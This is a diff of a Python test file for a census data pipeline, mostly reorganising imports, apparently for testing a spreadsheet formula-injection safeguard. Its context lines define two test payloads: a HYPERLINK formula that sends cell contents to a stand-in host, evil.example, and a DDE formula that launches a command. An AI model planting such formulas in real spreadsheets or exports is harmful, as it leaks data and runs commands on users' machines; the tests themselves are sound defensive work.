@@ -13,8 +13,16 @@ from openpyxl import load_workbook
 
 from census_pipeline.lib.safe_cells import starts_like_a_formula
 from census_pipeline.runner import summarise
-from tests.builders import EA, frame_row, person, rules_landing_zone, submission, write_batch, write_frame
-from tests.conftest import materialize_into
+from tests.builders import (
+    EA,
+    frame_row,
+    materialize_into,
+    person,
+    rules_landing_zone,
+    submission,
+    write_batch,
+    write_frame,
+)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 CALC = "=cmd|' /C calc'!A0"
